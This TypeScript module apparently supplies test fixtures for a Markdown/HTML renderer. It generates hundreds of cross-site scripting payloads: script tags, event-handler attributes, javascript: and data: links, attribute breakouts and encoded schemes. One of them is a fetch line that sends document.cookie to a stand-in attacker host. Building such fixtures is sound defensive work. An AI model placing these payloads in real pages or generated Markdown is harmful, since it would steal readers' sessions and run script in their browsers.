/** Texts that a hostile book or a hijacked model might hold: what runs in careless renderers, in the forms Markdown allows. */

const RUN = ['alert(1)', 'window.pwned=1', 'top.pwned=1', 'fetch("https://evil.invalid/"+document.cookie)'];

const HTML = [
  '<script>RUN</script>',
  '<img src=x onerror=RUN>',
  '<img src="https://evil.invalid/p.png">',
  '<svg onload=RUN>',
  '<svg><script>RUN</script></svg>',
  '<iframe src="javascript:RUN"></iframe>',
  '<iframe srcdoc="<script>RUN</script>"></iframe>',
  '<a href="javascript:RUN">x</a>',
  '<body onload=RUN>',
  '<details open ontoggle=RUN>',
  '<math><mtext><table><mglyph><style><img src=x onerror=RUN>',
  '<object data="javascript:RUN"></object>',
  '<embed src="https://evil.invalid/x.swf">',
  '<form action="javascript:RUN"><button>x</button></form>',
  '<input autofocus onfocus=RUN>',
  '<style>@import "https://evil.invalid/x.css";</style>',
  '<link rel=stylesheet href="https://evil.invalid/x.css">',
  '<base href="https://evil.invalid/">',
  '<meta http-equiv=refresh content="0;url=https://evil.invalid/">',
  '<template><script>RUN</script></template>',
  '<!--><script>RUN</script>-->',
  '<![CDATA[<script>RUN</script>]]>',
  '<x style="background:url(https://evil.invalid/p)">x</x>',
  '<video><source onerror=RUN></video>',
  '"><script>RUN</script>',
  "'-RUN-'",
  '</textarea><script>RUN</script>',
  '{{constructor.constructor("RUN")()}}',
  '${RUN}',
];

const MARKDOWN = [
  '[x](javascript:RUN)',
  '[x](JaVaScRiPt:RUN)',
  '[x](  javascript:RUN)',
  '[x](java\tscript:RUN)',
  '[x](&#106;avascript:RUN)',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](vbscript:RUN)',
  '[x](//evil.invalid/)',
  '[x](<javascript:RUN>)',
  '[x](https://a.invalid" onmouseover="RUN)',
  '<javascript:RUN>',
  '![x](https://evil.invalid/p.png)',
  '![x](javascript:RUN)',
  '![x](x" onerror="RUN)',
  '[![x](https://evil.invalid/p.png)](javascript:RUN)',
  '[x]: javascript:RUN\n\n[x]',
  '```html" onmouseover="RUN\n<script>RUN</script>\n```',
  '| <img src=x onerror=RUN> | b |\n|---|---|\n| <script>RUN</script> | [x](javascript:RUN) |',
  '> <script>RUN</script>\n> - [ ] <img src=x onerror=RUN>',
  '# <svg onload=RUN> {#x" onclick="RUN}',
  '$\\href{javascript:RUN}{x}$ and $<img src=x onerror=RUN>$',
  '$$\\text{<script>RUN</script>}$$',
  ':::danger[<img src=x onerror=RUN>]\n<script>RUN</script>\n:::',
  '`<script>RUN</script>`',
  '**<b onclick=RUN>x</b>**',
  '&lt;script&gt;RUN&lt;/script&gt;',
  '&#60;script&#62;RUN&#60;/script&#62;',
  '<scr\u0000ipt>RUN</scr\u0000ipt>',
  '\u202e<script>RUN</script>',
  '<img src=x onerror\n=\nRUN>',
];

/** At least three hundred, each different. */
export function payloads(): string[] {
  const templates = [...HTML, ...MARKDOWN];
  const filled = RUN.flatMap((run) => templates.map((template) => template.replaceAll('RUN', run)));
  const wrapped = templates.flatMap((template) => {
    const text = template.replaceAll('RUN', 'alert(2)');
    return [`- ${text}`, `**${text}**`];
  });
  return [...new Set([...filled, ...wrapped])];
}
